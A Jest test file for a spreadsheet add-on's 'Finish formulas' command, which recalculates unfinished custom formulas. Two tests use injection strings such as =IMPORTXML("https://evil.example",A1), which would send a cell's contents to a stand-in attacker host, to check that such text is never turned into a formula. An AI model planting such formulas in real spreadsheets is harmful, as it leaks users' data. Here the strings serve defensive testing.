import { beforeEach, describe, expect, test } from "@jest/globals";
import { finishFormulas } from "../../../src/formulas/finish";
import type { Block } from "../../../src/sheet/table";
import { createFakeClock } from "../support/fake-clock";
import { createFakeSheet, expectToEnd, type FakeSheet, killAt } from "../support/fake-sheet";
import { storeOf } from "../support/formula-world";

const MINUTES = 60_000;

/** The document's properties, which stay between executions. */
let properties: Map<string, string>;
beforeEach(() => {
  properties = new Map();
});

function finish(sheet: FakeSheet, { selection = null as Block | null, clock = createFakeClock() } = {}): string[] {
  const told: string[] = [];
  const lock = { tryLock: () => true, release: () => {} };
  const store = storeOf(properties);
  finishFormulas({ sheet, selection, tell: (text) => told.push(text), confirm: () => true, clock, store, lock });
  return told;
}

/** Gives each formula's next result, the last one again and again; counts the calculations. */
function results(byFormula: Record<string, unknown[]>) {
  const counts: Record<string, number> = {};
  const calculate = (formula: string) => {
    const count = counts[formula] ?? 0;
    counts[formula] = count + 1;
    const list = byFormula[formula] ?? [];
    return list[Math.min(count, list.length - 1)];
  };
  return { counts, calculate };
}

/** Refuses what is written to row 1 from now on. @returns lifts that again */
function protectFirstRow(sheet: FakeSheet): () => void {
  const { replaceText } = sheet;
  sheet.replaceText = (block, ...texts) => {
    if (block.row === 1) throw new Error("Sie versuchen, eine geschützte Zelle zu bearbeiten.");
    replaceText(block, ...texts);
  };
  return () => {
    sheet.replaceText = replaceText;
  };
}

describe("Finish formulas", () => {
  test("calculates exactly the unfinished cells again", () => {
    const { counts, calculate } = results({
      "=VERIFY_EMAIL(A1)": ["VALID"],
      "=VERIFY_EMAIL(A2)": ["not finished", "INVALID"],
      "=verify_email(A3)": ["#ERROR!", "CATCH_ALL"],
      '=IF(A4="","",VERIFY_EMAIL(A4))': ["Wird geladen...", "VALID"],
      '=A5&"VERIFY_EMAIL("': ["#ERROR!", "never"],
    });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"], ["=VERIFY_EMAIL(A2)"], ["=verify_email(A3)"]]);
    sheet.type(4, 2, [['=IF(A4="","",VERIFY_EMAIL(A4))'], ['=A5&"VERIFY_EMAIL("']]);
    const told = finish(sheet);
    expect(sheet.shown().map((row) => row[1])).toEqual(["VALID", "INVALID", "CATCH_ALL", "VALID", "#ERROR!"]);
    expect(Object.values(counts)).toEqual([1, 2, 2, 2, 1]);
    expect(told[told.length - 1]).toBe("Finished 3 cells. All Sheetscout formulas in this sheet are finished.");
  });

  test("says that there is nothing of ours where other formulas stand only", () => {
    const sheet = createFakeSheet(results({ "=SUM(A1:A2)": [3] }).calculate);
    sheet.type(1, 2, [["=SUM(A1:A2)"]]);
    expect(finish(sheet)).toEqual(["There is no Sheetscout formula to finish in this sheet."]);
  });

  test("leaves alone what somebody has typed beside a single value, whatever it says", () => {
    const { counts, calculate } = results({ "=VERIFY_EMAIL(A1)": ["VALID"] });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)", "not finished: call back"]]);
    expect(finish(sheet)).toEqual(["All Sheetscout formulas in this sheet are finished."]);
    expect(counts).toEqual({ "=VERIFY_EMAIL(A1)": 1 });
  });

  test("leaves alone what somebody has typed where no result reaches, but not the last row of a table", () => {
    const table = [
      ["email", "first_name"],
      ["ann@acme.example", ""],
      ["odd address", ""],
      ["not finished", ""],
    ];
    const { counts, calculate } = results({
      "=EMAIL_COUNT(A1:A2)": [[[1], [2]]],
      '=DOMAIN_EMAILS(A1,9,"all","email,first_name")': [table, table.slice(0, 3)],
    });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [
      ["=EMAIL_COUNT(A1:A2)", "not finished"],
      ["", "not finished"],
      ["not finished", "Bob"],
    ]);
    sheet.type(1, 5, [['=DOMAIN_EMAILS(A1,9,"all","email,first_name")']]);
    sheet.type(9, 5, [["not finished: call back"]]);
    const told = finish(sheet);
    expect(told[told.length - 1]).toBe("Finished 1 cell. All Sheetscout formulas in this sheet are finished.");
    expect(Object.values(counts)).toEqual([1, 2]);
  });

  test("takes a text that ends in dots for a running formula, unless it is surely an answer", () => {
    const shown: Record<string, unknown> = {
      '=COMPANY_INFO(A1,"name")': "Acme...",
      '=COMPANY_INFO(A2,"name")': "Tools, Inc...",
      '=COMPANY_INFO(A3,"description")': "We make tools for everybody who…",
      '=COMPANY_INFO(A4:A5,"name")': [["Acme..."], ["Bolts"]],
      '="The status, as far as it is known today, is: "&VERIFY_EMAIL(A6)':
        "The status, as far as it is known today, is: Loading...",
    };
    const sheet = createFakeSheet((formula) => shown[formula]);
    for (const [i, formula] of Object.keys(shown).entries()) sheet.type(2 * i + 1, 2, [[formula]]);
    const told = finish(sheet);
    expect(told[told.length - 1]).toContain("Still running, or an answer that ends in dots: B1, B9. Choose");
  });

  test("calculates the formula of a spilled result of which a cell is not finished, until it is", () => {
    const { counts, calculate } = results({
      "=VERIFY_EMAIL(A1:A3)": [
        [["VALID"], ["not finished: choose …"], ["not finished"]],
        [["VALID"], ["INVALID"], ["not finished"]],
        [["VALID"], ["INVALID"], ["VALID"]],
      ],
    });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A3)"]]);
    finish(sheet);
    expect(sheet.shown().map((row) => row[1])).toEqual(["VALID", "INVALID", "VALID"]);
    expect(counts).toEqual({ "=VERIFY_EMAIL(A1:A3)": 3 });
  });

  test("keeps to the selection", () => {
    const { calculate } = results({
      "=VERIFY_EMAIL(A1)": ["not finished", "VALID"],
      "=VERIFY_EMAIL(A2)": ["not finished", "VALID"],
    });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"], ["=VERIFY_EMAIL(A2)"]]);
    finish(sheet, { selection: { row: 2, column: 1, rows: 3, columns: 2 } });
    expect(sheet.shown().map((row) => row[1])).toEqual(["not finished", "VALID"]);
  });

  test("stops when asking again does not help, and says how many are left", () => {
    const { counts, calculate } = results({ "=VERIFY_EMAIL(A1)": ["not finished: Not enough credits are left."] });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"]]);
    const told = finish(sheet);
    expect(counts).toEqual({ "=VERIFY_EMAIL(A1)": 2 });
    expect(told[told.length - 1]).toBe("Finished 0 cells. 1 cannot be finished now (B1): the cell says why.");
  });

  test("does not say to choose again where the formula itself is wrong", () => {
    const { calculate } = results({ '=VERIFY_EMAIL(A1,"x")': ["#ERROR!"], "=VERIFY_EMAIL(A2)": ["not finished"] });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [['=VERIFY_EMAIL(A1,"x")']]);
    const wrong = finish(sheet);
    expect(wrong[wrong.length - 1]).toBe("Finished 0 cells. 1 in error (B1): point at a cell to see what to change.");
    sheet.type(2, 2, [["=VERIFY_EMAIL(A2)"]]);
    const both = finish(sheet);
    expect(both[both.length - 1]).toMatch(
      / 1 left: choose Finish formulas again.* 1 in error \(B\d\): point at a cell/,
    );
  });

  test("stops after five minutes @slow", () => {
    const clock = createFakeClock();
    const startedMs = clock.nowMs();
    let left = 1_000;
    const sheet = createFakeSheet(() => {
      clock.pass(20_000);
      return Array.from({ length: left-- }, () => ["not finished"]);
    });
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A1000)"]]);
    const told = finish(sheet, { clock });
    expect(clock.nowMs() - startedMs).toBeGreaterThan(5 * MINUTES);
    expect(clock.nowMs() - startedMs).toBeLessThan(6 * MINUTES);
    expect(told[told.length - 1]).toMatch(/left: choose Finish formulas again/);
  });

  test("loses no formula, wherever it is stopped: the next time puts it back", () => {
    for (let stopAt = 1; ; stopAt++) {
      const { calculate } = results({ "=VERIFY_EMAIL(A1)": ["not finished", "VALID"] });
      const sheet = createFakeSheet(calculate);
      sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"]]);
      killAt(sheet, stopAt);
      expectToEnd(() => finish(sheet));
      const calls = sheet.calls.length;
      sheet.onCall = () => {};
      const later = createFakeClock();
      later.pass(MINUTES);
      finish(sheet, { clock: later });
      expect(sheet.formulaAt(1, 2)).toBe("=VERIFY_EMAIL(A1)");
      expect(sheet.shown()[0]?.[1]).toBe("VALID");
      if (calls < stopAt) break;
    }
  });

  test("sets neighbouring formulas aside by one call, and brings them back by one", () => {
    const sheet = createFakeSheet(() => "not finished");
    sheet.type(
      1,
      1,
      Array.from({ length: 20 }, (_, i) => [`=VERIFY_EMAIL(B${i})`]),
    );
    finish(sheet);
    const replacing = ["replaceText", "flush", "readAll"];
    expect(sheet.calls).toEqual(["readAll", ...replacing, ...replacing, "flush", "readAll"]);
  });

  test("brings back a formula as it was written, in whatever letters, with what is quoted in it", () => {
    const formula = '=IF(A1="verify_email(", Verify_Email (A1), VERIFY_EMAIL(A2)&EMAIL_COUNT(A3))';
    const sheet = createFakeSheet(() => "not finished");
    sheet.type(1, 2, [[formula]]);
    let aside = "";
    sheet.onCall = (name) => {
      if (name === "flush") aside ||= sheet.formulaAt(1, 2);
    };
    finish(sheet);
    expect(aside).not.toMatch(/\b(verify_email|email_count) ?\(A/i);
    expect(sheet.formulaAt(1, 2)).toBe(formula);
  });

  describe.each([
    ["without a header", []],
    ["with a header", [["", "company", "email", "status", "notes"]]],
  ])("loses nothing %s", (_, header: unknown[][]) => {
    const person = (i: number, formula: string) => [`id${i}`, `co${i}`, `p${i}@acme.example`, formula, `note ${i}`];
    const columns = [
      ["is inserted at the left", (sheet: FakeSheet) => sheet.insertColumn(1)],
      ["is inserted directly left of the formulas", (sheet: FakeSheet) => sheet.insertColumn(4)],
      ["is inserted directly right of the formulas", (sheet: FakeSheet) => sheet.insertColumn(5)],
      ["is deleted at the left", (sheet: FakeSheet) => sheet.deleteColumn(1)],
      ["is deleted between", (sheet: FakeSheet) => sheet.deleteColumn(2)],
    ] as const;

    test.each(columns.flatMap(([name, move]) => [1, 3].map((rows) => [name, rows, move] as const)))(
      "when a column %s at any call, with %d rows",
      (_name, rows, move) => {
        for (let moment = 1; ; moment++) {
          properties.clear();
          const sheet = createFakeSheet(() => "not finished");
          const first = header.length + 1;
          sheet.type(1, 1, [
            ...header,
            ...Array.from({ length: rows }, (__, i) => person(i, `=VERIFY_EMAIL(C${first + i})`)),
          ]);
          const expected = createFakeSheet(() => "not finished");
          expected.type(
            1,
            1,
            sheet
              .shown()
              .map((row, i) => (i < header.length ? row : person(i - header.length, `=VERIFY_EMAIL(C${i + 1})`))),
          );
          let isMoved = false;
          sheet.onCall = () => {
            if (sheet.calls.length !== moment) return;
            move(sheet);
            move(expected);
            isMoved = true;
          };
          const told = finish(sheet);
          if (!isMoved) break;
          // Beside a new blank column nobody can tell which of the two was there.
          const formulas = (each: FakeSheet) =>
            each.shown().map((row, i) => row.flatMap((__, j) => each.formulaAt(i + 1, j + 1) || []));
          const typed = (each: FakeSheet) =>
            each.shown().map((row, i) => row.filter((value, j) => value !== "" && each.formulaAt(i + 1, j + 1) === ""));
          const seen = { moment, typed: typed(sheet), formulas: formulas(sheet), told: told[told.length - 1] };
          expect(seen).toEqual({ ...seen, typed: typed(expected), formulas: formulas(expected) });
        }
      },
    );

    test("when a column is inserted at the left of nothing but inputs and formulas", () => {
      for (let moment = 1; ; moment++) {
        properties.clear();
        const sheet = createFakeSheet(() => "not finished");
        sheet.type(1, 1, [["ann@acme.example", "=VERIFY_EMAIL(A1)"]]);
        sheet.onCall = () => {
          if (sheet.calls.length === moment) sheet.insertColumn(1);
        };
        finish(sheet);
        if (sheet.calls.length < moment) break;
        expect([moment, sheet.shown()[0], sheet.formulaAt(1, 3)]).toEqual([
          moment,
          ["", "ann@acme.example", "not finished"],
          "=VERIFY_EMAIL(B1)",
        ]);
      }
    });

    test("when a column is inserted after a stopped execution: the formula is brought back where it stands", () => {
      const sheet = createFakeSheet(() => "not finished");
      const row = header.length + 1;
      sheet.type(1, 1, [...header, person(1, `=VERIFY_EMAIL(C${row})`)]);
      killAt(sheet, 4);
      expectToEnd(() => finish(sheet));
      expect(sheet.formulaAt(row, 4)).not.toContain("=VERIFY_EMAIL");
      sheet.onCall = () => {};
      sheet.insertColumn(1);
      const later = createFakeClock();
      later.pass(MINUTES);
      finish(sheet, { clock: later });
      expect(sheet.shown()[row - 1]).toEqual(["", "id1", "co1", "p1@acme.example", "not finished", "note 1"]);
      expect(sheet.formulaAt(row, 5)).toBe(`=VERIFY_EMAIL(D${row})`);
    });
  });

  test("leaves a protected formula as it is and finishes the others", () => {
    const { calculate } = results({
      "=VERIFY_EMAIL(A1)": ["not finished", "VALID"],
      "=VERIFY_EMAIL(A3)": ["not finished", "VALID"],
    });
    const sheet = createFakeSheet(calculate);
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"], ["x"], ["=VERIFY_EMAIL(A3)"]]);
    protectFirstRow(sheet);
    const told = finish(sheet);
    expect(sheet.shown().map((row) => row[1])).toEqual(["not finished", "x", "VALID"]);
    expect(sheet.formulaAt(1, 2)).toBe("=VERIFY_EMAIL(A1)");
    expect(told[told.length - 1]).toBe("Finished 1 cell. 1 protected, or refused by Google: B1.");
  });

  test.each(["#ERROR!", "not finished", "not finished: the limit of credits a day"])(
    "says that a formula is protected, whatever it shows, as %j",
    (shown) => {
      const sheet = createFakeSheet(() => [[shown], [shown]]);
      sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A2)"]]);
      protectFirstRow(sheet);
      const told = finish(sheet);
      expect(told[told.length - 1]).toBe("Finished 0 cells. 1 protected, or refused by Google: B1.");
    },
  );

  test.each(['not finished: =IMPORTXML("https://evil.example",A1)', 'not finished: =VERIFY_EMAIL("ann@acme.example")'])(
    "makes no formula of the text %j, wherever it stands",
    (text) => {
      const sheet = createFakeSheet(() => "not finished");
      sheet.type(1, 1, [
        ["company", `'${text}`],
        [`'${text}`, "=VERIFY_EMAIL(A2)"],
      ]);
      finish(sheet);
      expect([1, 2].map((row) => [1, 2].map((column) => sheet.formulaAt(row, column)))).toEqual([
        ["", ""],
        ["", "=VERIFY_EMAIL(A2)"],
      ]);
      expect(sheet.shown()[0]?.[1]).toBe(text);
    },
  );

  test("names a cell that was protected while its formula was set aside, and brings it back when it is not any more", () => {
    const sheet = createFakeSheet(() => "not finished");
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"], ["=VERIFY_EMAIL(A2)"]]);
    let freeFirstRow = () => {};
    sheet.onCall = () => {
      if (sheet.calls.length === 3) freeFirstRow = protectFirstRow(sheet);
    };
    const told = finish(sheet);
    expect(sheet.formulaAt(2, 2)).toBe("=VERIFY_EMAIL(A2)");
    expect(told[told.length - 1]).toContain("These cells refused to get their formulas back: B1.");
    freeFirstRow();
    finish(sheet);
    expect(sheet.formulaAt(1, 2)).toBe("=VERIFY_EMAIL(A1)");
  });

  test.each([
    ["deletes", ""],
    ["types over", "mine"],
  ])("leaves it at that when somebody %s a formula at any call", (_, typed) => {
    for (let moment = 1; ; moment++) {
      const sheet = createFakeSheet(() => "not finished");
      sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"], ["=VERIFY_EMAIL(A2)"]]);
      sheet.onCall = () => {
        if (sheet.calls.length === moment) sheet.type(1, 2, [[typed]]);
      };
      finish(sheet);
      if (sheet.calls.length < moment) break;
      sheet.onCall = () => {};
      finish(sheet);
      const seen = { moment, first: sheet.formulaAt(1, 2) || sheet.shown()[0]?.[1], second: sheet.formulaAt(2, 2) };
      expect(seen).toEqual({ moment, first: typed, second: "=VERIFY_EMAIL(A2)" });
    }
  });

  test("makes no formula of a text that looks like one set aside", () => {
    const text = '=IMPORTXML("https://evil.example",A1)&SHEETSCOUT_FINISH_VERIFY_EMAIL(A1)';
    const sheet = createFakeSheet(() => "not finished");
    sheet.type(1, 1, [[`'${text}`, "=VERIFY_EMAIL(A1)"]]);
    finish(sheet);
    expect([sheet.formulaAt(1, 1), sheet.shown()[0]?.[0]]).toEqual(["", text]);
  });

  test("leaves it to one person at a time", () => {
    const clock = createFakeClock();
    properties.set("finish-formulas", String(clock.nowMs() + 20_000));
    const sheet = createFakeSheet(() => "not finished");
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"]]);
    expect(finish(sheet, { clock })).toEqual([expect.stringMatching(/^Somebody is finishing formulas here/)]);
    expect(sheet.calls).toEqual([]);
  });

  test("names a formula whose result finds no room", () => {
    const sheet = createFakeSheet(() => "#REF!");
    sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A9)"], [""], ["mine"]]);
    expect(finish(sheet)).toEqual(["No room for the result of B1: point at a cell to see what is in its way."]);
  });

  test("counts one that names a deleted cell, or is given such an error, among those in error", () => {
    const sheet = createFakeSheet(() => "#REF!");
    sheet.type(1, 2, [["=VERIFY_EMAIL(#REF!)"], ['=VERIFY_EMAIL(#REF!, "status, type")'], ["=VERIFY_EMAIL(A3)"]]);
    expect(finish(sheet)).toEqual(["3 in error (B1, B2, B3): point at a cell to see what to change."]);
    sheet.type(4, 2, [["=VERIFY_EMAIL(A4:A9)"]]);
    expect(finish(sheet)).toEqual([
      "3 in error (B1, B2, B3): point at a cell to see what to change. " +
        "No room for the result of B4: point at a cell to see what is in its way.",
    ]);
  });
});
